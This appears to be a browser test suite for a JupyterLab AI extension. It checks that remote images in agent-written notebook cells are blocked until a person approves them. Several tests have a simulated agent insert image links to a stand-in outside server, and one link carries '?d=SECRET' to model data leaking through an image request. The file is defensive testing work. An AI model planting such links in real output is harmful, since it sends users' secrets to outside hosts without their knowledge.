"""Remote images in an open notebook are blocked according to who wrote the cell."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest
from playwright.async_api import Locator, Page, Route, expect

from tests.browser.agents import NOTEBOOK, Agent, Open, write_cells
from tests.browser.conftest import OpenLab
from tests.browser.lab import Lab
from tests.browser.open_notebook import ALONE_FIRST
from tests.browser.other_origin import OtherOrigin

LOADED = (
    "() => [...document.querySelectorAll('.jp-Notebook img')].filter(each => each.naturalWidth)"
)
WRITERS = "**/api/tk-ai/changes/cells?**"
SETTINGS = "tk-ai-extension:notebook"


@pytest.fixture
def other_origin() -> Iterator[OtherOrigin]:
    with OtherOrigin().running() as other_origin:
        yield other_origin


async def begin(open_lab: OpenLab, *markdown: str, collaboration: bool = False) -> Lab:
    """Opens a notebook with a code cell and these cells, which a person wrote."""
    lab = await open_lab(collaboration=collaboration)
    write_cells(lab.server.root, first000="1")
    add_markdown(lab.server.root / NOTEBOOK, *markdown)
    await lab.open(NOTEBOOK)
    return lab


def add_markdown(path: Path, *sources: str) -> None:
    """Adds cells to a notebook that is not open."""
    document = nbformat.read(path, as_version=4)
    document.cells += [nbformat.v4.new_markdown_cell(source) for source in sources]
    nbformat.write(document, path)


async def loaded(page: Page, count: int) -> None:
    """Waits until so many pictures of the notebook are shown."""
    await page.wait_for_function(f"() => ({LOADED})().length === {count}")


def button(cell: Locator, other_origin: OtherOrigin) -> Locator:
    """The button by which a person loads what is blocked in a cell."""
    return cell.get_by_role("button", name=f"Load images from {other_origin.host}", exact=True)


@ALONE_FIRST
@pytest.mark.proves("threat:remote-pictures")
async def test_images_in_an_agents_cell_are_blocked_until_the_change_is_kept(
    open_lab: OpenLab, other_origin: OtherOrigin, collaboration: bool
) -> None:
    lab = await begin(open_lab, collaboration=collaboration)
    seen, agent, page = Open(lab), Agent(lab), lab.page
    source = f"The mean of each month:\n\n![a chart]({other_origin.url}/a.png?d=SECRET)"
    await agent("insert_cell", source=source, index=1, cell_type="markdown")
    load = button(seen.cells.nth(1), other_origin)
    await load.wait_for()
    await seen.mark(1).wait_for()
    await expect(load).to_have_attribute("title", re.compile(r"/a\.png\?d=SECRET$"))

    await page.reload()
    await lab.ready()
    await load.wait_for()
    await seen.mark(1).click()
    assert other_origin.asked == []
    await seen.review(1).get_by_role("button", name="Keep", exact=True).click()
    await loaded(page, 1)
    await expect(load).to_have_count(0)
    assert other_origin.asked == ["/a.png?d=SECRET"]

    await agent("read_notebook")
    await agent.changes(await key(lab, 1), source.replace("SECRET", "MORE"))
    await load.wait_for()
    assert other_origin.asked == ["/a.png?d=SECRET"]


async def key(lab: Lab, place: int) -> str:
    """The id of a cell."""
    script = "place => window.jupyterapp.shell.currentWidget.content.widgets[place].model.id"
    found: str = await lab.page.evaluate(script, place)
    return found


@pytest.mark.proves("threat:remote-pictures")
async def test_a_person_loads_what_is_blocked_by_a_button_that_names_the_host(
    open_lab: OpenLab, other_origin: OtherOrigin
) -> None:
    lab = await begin(open_lab)
    seen, agent, page = Open(lab), Agent(lab), lab.page
    code = f"from IPython.display import HTML\nHTML('<img src=\"{other_origin.url}/1.png\">')"
    await agent("insert_and_execute_cell", source=code, index=1)
    source = f"<p style='background: url({other_origin.url}/2.png)'>styled</p>"
    await agent("insert_cell", source=source, index=2, cell_type="markdown")
    await button(seen.cells.nth(2), other_origin).wait_for()
    await button(seen.cells.nth(1), other_origin).focus()
    assert other_origin.asked == []
    await page.keyboard.press("Enter")
    await loaded(page, 1)
    await expect(button(seen.cells.nth(1), other_origin)).to_have_count(0)
    await expect(seen.cells.nth(1)).to_be_focused()
    assert other_origin.asked == ["/1.png"]

    async with page.expect_request(f"{other_origin.url}/2.png"):
        await button(seen.cells.nth(2), other_origin).click()
    diagram = f'```mermaid\ngraph LR\nA["<img src={other_origin.url}/4.png>"]-->B\n```'
    await agent("insert_cell", source=diagram, index=3, cell_type="markdown")
    await expect(seen.cells.nth(3).locator(".tk-BlockedDiagram")).to_contain_text("graph LR")
    await expect(seen.cells.nth(3).locator(".tk-BlockedDiagram code")).to_be_visible()
    assert "/4.png" not in other_origin.asked
    await button(seen.cells.nth(3), other_origin).click()
    await loaded(page, 2)
    # What was loaded once is, whatever else is written beside it.
    await agent.changes(await key(lab, 2), f"{source} and more")
    await expect(seen.cells.nth(2)).to_contain_text("and more")
    await agent.changes(await key(lab, 2), f"{source}\n\n![]({other_origin.url}/3.png)")
    await button(seen.cells.nth(2), other_origin).wait_for()
    assert "/3.png" not in other_origin.asked


@ALONE_FIRST
@pytest.mark.proves("threat:remote-pictures")
async def test_a_notebook_that_no_agent_wrote_looks_as_ever(
    open_lab: OpenLab, other_origin: OtherOrigin, collaboration: bool
) -> None:
    badge = f"[![Open elsewhere]({other_origin.url}/badge.png)]({other_origin.url}/open)"
    diagram = f'```mermaid\ngraph LR\nA["<img src={other_origin.url}/in-diagram.png>"]-->B\n```'
    lab = await begin(open_lab, badge, diagram, "Notes", collaboration=collaboration)
    seen, agent, page = Open(lab), Agent(lab), lab.page
    await loaded(page, 2)
    assert "/badge.png" in other_origin.asked
    blocked = page.locator("[data-tk-blocked], tk-ai-blocked, .tk-Blocked")
    await expect(blocked).to_have_count(0)

    # In the same notebook an agent writes, and then the person does.
    await agent(
        "insert_cell", source=f"![]({other_origin.url}/agent.png)", index=0, cell_type="markdown"
    )
    await button(seen.cells.nth(0), other_origin).wait_for()
    await seen.cells.nth(4).get_by_role("paragraph").click()
    await page.keyboard.press("Enter")
    await expect(seen.cells.nth(4).locator(".cm-content")).to_be_focused()
    await page.keyboard.press("Control+End")
    await page.keyboard.type(f" ![]({other_origin.url}/typed.png)")
    await page.keyboard.press("Control+Enter")
    await loaded(page, 3)
    assert "/agent.png" not in other_origin.asked


@pytest.mark.proves("threat:remote-pictures")
async def test_nothing_is_loaded_before_the_server_has_answered_who_wrote_it(
    open_lab: OpenLab, other_origin: OtherOrigin
) -> None:
    lab = await open_lab()
    answered = asyncio.Event()

    async def silent(route: Route) -> None:
        await answered.wait()
        await route.abort()

    await lab.page.route(WRITERS, silent)
    write_cells(lab.server.root, first000="1")
    add_markdown(lab.server.root / NOTEBOOK, f"![]({other_origin.url}/a.png)")
    async with lab.page.expect_request(WRITERS):
        await lab.open(NOTEBOOK)
    await lab.page.locator("tk-ai-blocked").wait_for(state="attached")
    assert other_origin.asked == []
    # Without an answer, a person may load it; and it is asked for again.
    answered.set()
    await button(Open(lab).cells.nth(1), other_origin).wait_for()
    assert other_origin.asked == []
    await lab.page.unroute(WRITERS)
    await loaded(lab.page, 1)


@pytest.mark.proves("threat:remote-pictures")
async def test_views_beside_the_cells_block_and_load_what_these_do(
    open_lab: OpenLab, other_origin: OtherOrigin
) -> None:
    lab = await begin(open_lab)
    seen, agent, page = Open(lab), Agent(lab), lab.page
    await page.get_by_role("tab", name="Table of Contents").click()
    source = f"# Title ![]({other_origin.url}/heading.png)"
    await agent("insert_cell", source=source, index=0, cell_type="markdown")
    code = f"from IPython.display import HTML\nHTML('<h2>Two <img src=\"{other_origin.url}/1.png\"></h2>')"
    await agent("insert_and_execute_cell", source=code, index=1)
    await page.locator(".jp-tocItem").filter(has_text="Title").wait_for()
    await button(seen.cells.nth(1), other_origin).wait_for()
    await seen.cells.nth(1).locator(".cm-content").click()
    await lab.command("notebook:create-output-view")
    view = page.locator(".jp-LinkedOutputView")
    await expect(view.locator("img")).to_have_attribute("data-tk-blocked", "")
    assert other_origin.asked == []
    await page.get_by_role("tab", name=NOTEBOOK).click()
    await seen.all_changes.get_by_role("button", name="Keep").click()
    await loaded(page, 2)
    await expect(view.locator("img")).not_to_have_attribute("data-tk-blocked", "")


@pytest.mark.proves("threat:remote-pictures")
async def test_a_setting_holds_everything_or_nothing(
    open_lab: OpenLab, other_origin: OtherOrigin
) -> None:
    lab = await begin(open_lab, f"![]({other_origin.url}/mine.png)")
    seen, agent, page = Open(lab), Agent(lab), lab.page
    await loaded(page, 1)
    await set_rule(lab, "all")
    await button(seen.cells.nth(1), other_origin).wait_for()
    assert other_origin.asked == ["/mine.png"]
    source = f"![]({other_origin.url}/theirs.png)"
    await agent("insert_cell", source=source, index=0, cell_type="markdown")
    await button(seen.cells.nth(0), other_origin).wait_for()
    await set_rule(lab, "nothing")
    await loaded(page, 2)
    await expect(page.locator(".tk-Blocked")).to_have_count(0)


async def set_rule(lab: Lab, rule: str) -> None:
    """Changes the setting for the next page, and loads that."""
    script = """([of, raw]) => window.jupyterapp.serviceManager.settings.save(of, raw)"""
    await lab.page.evaluate(script, [SETTINGS, json.dumps({"pictures": rule})])
    await lab.page.reload()
    await lab.ready()
